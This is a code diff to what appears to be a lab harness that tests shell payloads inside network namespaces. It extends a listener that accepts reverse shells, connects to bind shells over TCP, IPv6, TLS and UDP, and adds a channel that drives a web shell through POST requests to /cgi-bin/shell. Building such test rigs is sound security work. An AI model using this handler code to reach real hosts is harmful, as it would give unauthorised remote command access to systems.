@@ -8,10 +8,11 @@ import socket
 import ssl
 import subprocess
 import time
+from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
 
-from lab.namespaces import PEER_IP, PEER_IP6, VICTIM_IP, Machine
+from lab.namespaces import PEER_IP, PEER_IP6, VICTIM_IP, VICTIM_IP6, Machine
 from lab.payloads import PORT, PORT2, Payload
 
 CONNECT_SECONDS = 15.0
@@ -75,6 +76,30 @@ class Channel:
         self.answers.close()
 
 
+class WebChannel(Channel):
+    """A shell behind a web server: each line is a request of its own, each response an answer."""
+
+    def __init__(self, connect: Callable[[], socket.socket]) -> None:
+        self.heard = b""
+        self._connect = connect
+        self._answer = b""
+
+    def say(self, line: str) -> None:
+        body = line.encode() + b"\n"
+        head = f"POST /cgi-bin/shell HTTP/1.0\r\nHost: victim\r\nContent-Length: {len(body)}\r\n\r\n"
+        with self._connect() as connection:
+            connection.sendall(head.encode() + body)
+            while data := connection.recv(65536):
+                self._answer += data
+
+    def hear(self, wanted: bytes, seconds: float) -> bool:
+        self.heard, self._answer = self.heard + self._answer, b""
+        return wanted in self.heard
+
+    def close(self) -> None:
+        """Leave the shell waiting at its pipe: there is no connection to close."""
+
+
 class Listener:
     """The attacker's open ports for one payload; close it after use."""
 
@@ -83,7 +108,7 @@ class Listener:
         self.peer = peer
         self.certificate = certificate
         self.sockets: list[socket.socket] = []
-        if payload.direction == "reverse":
+        if payload.direction == "reverse" or payload.transport == "udp":
             self._open()
 
     def _open(self) -> None:
@@ -103,7 +128,7 @@ class Listener:
         """Wait for the shell, ask it two things and say goodbye. `word` must come back from `echo`."""
         told = Conversation()
         try:
-            channel = self._connect() if self.payload.direction == "bind" else self._accept()
+            channel = self._open_channel()
         except OSError as error:
             told.trouble = f"no connection: {error}"
             return told
@@ -123,9 +148,22 @@ class Listener:
             channel.close()
         return told
 
-    def _accept(self) -> Channel:
+    def _open_channel(self) -> Channel:
         if self.payload.transport == "udp":
             return self._first_datagram()
+        if self.payload.direction == "reverse":
+            return self._accept()
+        if self.payload.transport == "http":
+            self._connect().close()  # until something listens
+            return WebChannel(self._connect)
+        connection = self._connect()
+        if self.payload.transport == "tls":
+            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+            connection = context.wrap_socket(connection)
+        return Channel(connection, connection)
+
+    def _accept(self) -> Channel:
         taken = []
         for listening in self.sockets:
             listening.settimeout(CONNECT_SECONDS)
@@ -140,7 +178,7 @@ class Listener:
 
     def _first_datagram(self) -> Channel:
         listening = self.sockets[0]
-        if self.payload.attacker_first:
+        if self.payload.attacker_first or self.payload.direction == "bind":
             first, sender = self._knock(listening)
         else:
             listening.settimeout(CONNECT_SECONDS)
@@ -160,14 +198,18 @@ class Listener:
                     return listening.recvfrom(65536)
         raise TimeoutError("nothing answers")
 
-    def _connect(self) -> Channel:
+    def _connect(self) -> socket.socket:
+        """Connect to the victim's port as soon as something listens there."""
         deadline = time.monotonic() + CONNECT_SECONDS
+        family, host = (
+            (socket.AF_INET6, VICTIM_IP6) if self.payload.transport == "tcp6" else (socket.AF_INET, VICTIM_IP)
+        )
         while True:
-            connection = self.peer.make_socket(socket.AF_INET, socket.SOCK_STREAM)
+            connection = self.peer.make_socket(family, socket.SOCK_STREAM)
             connection.settimeout(CONNECT_SECONDS)
             try:
-                connection.connect((VICTIM_IP, PORT))
-                return Channel(connection, connection)
+                connection.connect((host, PORT))
+                return connection
             except ConnectionRefusedError:
                 connection.close()
                 if time.monotonic() > deadline:
